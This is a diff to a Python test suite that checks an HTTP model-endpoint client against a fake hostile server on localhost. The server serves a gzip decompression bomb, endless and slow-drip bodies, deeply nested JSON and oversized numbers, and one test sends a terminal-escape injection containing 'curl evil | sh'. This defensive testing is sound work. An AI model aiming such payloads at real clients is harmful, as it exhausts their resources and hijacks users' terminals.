@@ -5,10 +5,13 @@ line, no traceback without --debug, no output files)."""
 from __future__ import annotations
 
 import contextlib
+import functools
+import gzip
 import http.server
 import json
 import threading
 import time
+import zlib
 from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any
@@ -17,7 +20,7 @@ import numpy as np
 import pytest
 
 from blackbox_vqa.adapters.http_endpoint import HttpAdapter
-from blackbox_vqa.errors import ModelError, ModelLoadError, ModelOutputError
+from blackbox_vqa.errors import InputError, ModelError, ModelLoadError, ModelOutputError
 from blackbox_vqa.explainers.occlusion import Occlusion
 from blackbox_vqa.server.app import create_app
 from blackbox_vqa.wire import PROTOCOL, answers_digest, decode_image
@@ -43,6 +46,7 @@ class FaultyServer:
     sleep: float = 1.0
     posts: list[int] = field(default_factory=list)
     answered: list[int] = field(default_factory=list)
+    sent: int = 0
     model: BrightnessModel = field(default_factory=BrightnessModel)
     lock: threading.Lock = field(default_factory=threading.Lock)
 
@@ -50,6 +54,9 @@ class FaultyServer:
         return json.dumps({"protocol": PROTOCOL, "name": "faulty",
                            "answers": list(self.model.answers),
                            "capabilities": {"image_encodings": ["png", "jpeg", "npy"]}}).encode()
+
+    def digest(self) -> str:
+        return answers_digest(self.model.answers)
 
     def __call__(self, handler: http.server.BaseHTTPRequestHandler, method: str,
                  body: bytes) -> None:
@@ -69,6 +76,9 @@ class FaultyServer:
     def respond(self, handler: Any, fault: str, items: list[dict[str, str]]) -> None:
         if fault == "drop":  # read the request, then close without a word
             handler.close_connection = True
+            return
+        if fault in HOSTILE:
+            HOSTILE[fault](handler, self, len(items))
             return
         if fault in ("500", "503", "400", "413", "429"):
             status = int(fault)
@@ -91,6 +101,10 @@ class FaultyServer:
         elif fault == "digest":
             digest = answers_digest(["yes", "no"])
         body = json.dumps({"scores": rows, "answers_sha256": digest}).encode()
+        if fault in ("gzip", "deflate", "raw-deflate"):
+            encoding = {"Content-Encoding": fault.removeprefix("raw-")}
+            send_json(handler, 200, compress(body, fault), encoding)
+            return
         if fault == "malformed":
             body = body[: len(body) // 2]
         if fault == "half":  # promise the whole body, send half, hang up
@@ -105,6 +119,82 @@ class FaultyServer:
         with self.lock:
             self.answered.append(len(items))
         send_json(handler, 200, body)
+
+
+# ------------------------------------------------------------------ hostile answers
+# Each writes its answer to the handler; ``sent`` counts the bytes written, so a test can
+# check that the client hung up early. Loads stay bounded (a few MiB at most).
+
+
+def compress(body: bytes, how: str) -> bytes:
+    if how == "gzip":
+        return gzip.compress(body, compresslevel=9)
+    wbits = zlib.MAX_WBITS if how == "deflate" else -zlib.MAX_WBITS
+    packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
+    return packer.compress(body) + packer.flush()
+
+
+def _endless(handler: Any, server: FaultyServer, n: int) -> None:
+    handler.send_response(200)
+    handler.send_header("Content-Type", "application/json")
+    handler.send_header("Transfer-Encoding", "chunked")
+    handler.end_headers()
+    chunk = b" " * 65536
+    for _ in range(1024):  # 64 MiB at most, then give up
+        handler.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))
+        server.sent += len(chunk)
+    handler.close_connection = True
+
+
+def _drip(handler: Any, server: FaultyServer, n: int) -> None:
+    handler.send_response(200)
+    handler.send_header("Content-Type", "application/json")
+    handler.send_header("Content-Length", "1000")
+    handler.end_headers()
+    for _ in range(1000):
+        handler.wfile.write(b" ")
+        handler.wfile.flush()
+        server.sent += 1
+        time.sleep(0.1)
+
+
+def _bomb(handler: Any, server: FaultyServer, n: int) -> None:
+    body = GZIP_BOMB()
+    send_json(handler, 200, body, {"Content-Encoding": "gzip"})
+    server.sent += len(body)
+
+
+def _nested(handler: Any, server: FaultyServer, n: int) -> None:
+    send_json(handler, 200, b"[" * 100_000 + b"]" * 100_000)
+
+
+def _overflow(handler: Any, server: FaultyServer, n: int) -> None:
+    huge = "1" + "0" * 400  # a JSON integer no float holds
+    rows = ", ".join([f"[{huge}, 0.5]"] * n)
+    body = f'{{"scores": [{rows}], "answers_sha256": "{server.digest()}"}}'
+    send_json(handler, 200, body.encode())
+
+
+def _brotli(handler: Any, server: FaultyServer, n: int) -> None:
+    send_json(handler, 200, b"\x00" * 64, {"Content-Encoding": "br"})
+
+
+HOSTILE = {"endless": _endless, "drip": _drip, "bomb": _bomb, "nested": _nested,
+           "overflow": _overflow, "br": _brotli}
+
+
+@functools.cache
+def GZIP_BOMB() -> bytes:
+    """A valid 'ours' answer padded with 64 MiB of JSON white space: ~64 KiB gzipped."""
+    model = BrightnessModel()
+    scores = json.dumps(model.answer_probs_batch([np.zeros((32, 32, 3), np.uint8)],
+                                                 [QUESTION]).tolist())
+    packer = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
+    parts = [packer.compress(b'{"scores": ')]
+    padding = b" " * 2**20
+    parts += [packer.compress(padding) for _ in range(64)]
+    parts += [packer.compress(scores.encode() + b"}"), packer.flush()]
+    return b"".join(parts)
 
 
 @pytest.fixture
@@ -226,6 +316,94 @@ def test_unreachable_endpoint_fails_at_load() -> None:
         fast_adapter(url)
 
 
+# ------------------------------------------------------------------ hostile endpoints
+
+
+@pytest.mark.parametrize("how", ["gzip", "deflate", "raw-deflate"])
+def test_a_compressed_answer_is_decoded(how: str, image: np.ndarray) -> None:
+    with served(FaultyServer(always=how)) as url:
+        scores = fast_adapter(url).answer_probs(image, QUESTION)
+    np.testing.assert_array_equal(scores, BrightnessModel().answer_probs(image, QUESTION))
+
+
+@pytest.mark.parametrize(
+    ("fault", "words"),
+    [
+        ("endless", "answered with more than 1 MiB of body (after decompression)"),
+        ("bomb", "answered with more than 1 MiB of body (after decompression)"),
+        ("drip", "did not finish its answer within the 1.5 s total time per request"),
+        ("br", "answered with Content-Encoding 'br', which this client does not decode"),
+    ],
+)
+def test_an_answer_over_the_size_or_time_bound_fails_once_and_early(
+    fault: str, words: str, image: np.ndarray
+) -> None:
+    GZIP_BOMB()  # built before the clock runs
+    server = FaultyServer(always=fault)
+    with served(server) as url:
+        # Only the drip meets the total time (a tight one elsewhere could cut a slow start).
+        total = 1.5 if fault == "drip" else 30.0
+        remote = fast_adapter(url, max_response_bytes=2**20, total_timeout=total)
+        started = time.monotonic()
+        with pytest.raises(ModelError, match=r"HTTP endpoint http://127\.0\.0\.1:\d+") as info:
+            remote.answer_probs(image, QUESTION)
+        seconds = time.monotonic() - started
+    assert words in str(info.value)
+    assert server.posts == [1]  # not retried: the endpoint misbehaves, it is not busy
+    assert seconds < 10  # the drip alone would take 100 s; the endless body 64 MiB
+    assert server.sent < 16 * 2**20
+
+
+@pytest.mark.parametrize(
+    ("fault", "words"),
+    [("nested", "returned JSON nested too deeply to read"),
+     ("overflow", "returned a score too large for a 64-bit float")],
+)
+def test_unreadable_json_numbers_and_nesting_name_the_endpoint(
+    fault: str, words: str, image: np.ndarray
+) -> None:
+    endpoint = r"HTTP endpoint http://127\.0\.0\.1:\d+"
+    with served(FaultyServer(always=fault)) as url, \
+            pytest.raises(ModelOutputError, match=endpoint) as info:
+        fast_adapter(url).answer_probs(image, QUESTION)
+    assert words in str(info.value)
+
+
+def test_the_bounds_are_options_with_finite_defaults() -> None:
+    with served(FaultyServer()) as url:
+        remote = HttpAdapter(url)
+        assert remote.limits.max_bytes == 64 * 2**20 and remote.limits.total == 300.0
+        built = HttpAdapter.from_options(url, {"http_total_timeout": 7.5,
+                                               "http_max_response_bytes": 4096})
+        assert built.limits.max_bytes == 4096 and built.limits.total == 7.5
+        for bad in ({"total_timeout": float("inf")}, {"total_timeout": 0},
+                    {"max_response_bytes": 0}):
+            with pytest.raises(InputError, match=r"http (total timeout|max response bytes)"):
+                HttpAdapter(url, **bad)  # type: ignore[arg-type]
+
+
+def test_a_large_vocabulary_gets_fewer_inputs_per_request(image: np.ndarray) -> None:
+    server = FaultyServer()
+    with served(server) as url:
+        remote = fast_adapter(url, concurrency=1, batch_size=16, max_response_bytes=1024)
+        # 2 answers: a row is at most 25 * 2 + 16 bytes, so half of 1 KiB holds 7 rows.
+        result = Occlusion(remote, grid=4, batch_size=21).explain(image, QUESTION)
+    assert max(server.answered) == 7
+    np.testing.assert_array_equal(result.image_map, local_result(image).image_map)
+
+
+def test_an_endpoints_error_text_is_escaped_for_the_terminal(image: np.ndarray) -> None:
+    def handle(handler: Any, method: str, body: bytes) -> None:
+        message = "\x1b]0;pwned\x07\x1b[2Jrun: curl evil | sh"
+        send_json(handler, 400, json.dumps({"error": message}).encode())
+
+    with scripted_server(handle) as url, pytest.raises(ModelLoadError) as info:
+        fast_adapter(url)
+    text = str(info.value)
+    assert "\x1b" not in text and "\x07" not in text
+    assert r"\x1b]0;pwned\x07\x1b[2Jrun: curl evil | sh" in text
+
+
 # ------------------------------------------------------------------ through the CLI
 
 
@@ -250,6 +428,11 @@ def explain(square_image: Path, tmp_path: Path) -> Any:
          "returned 0 score rows for 1 inputs"),
         (FaultyServer(always="nan"), [], "returned NaN or infinite scores"),
         (FaultyServer(always="drop"), [], "closed the connection without a complete answer"),
+        # The default bounds: 64 MiB after decompression, JSON Python can read.
+        (FaultyServer(always="bomb"), [], "answered with more than 64 MiB of body (after "
+         "decompression)"),
+        (FaultyServer(always="nested"), [], "returned JSON nested too deeply to read"),
+        (FaultyServer(always="overflow"), [], "returned a score too large for a 64-bit float"),
     ],
 )
 def test_cli_reports_faults_in_one_line_with_exit_1_and_no_files(
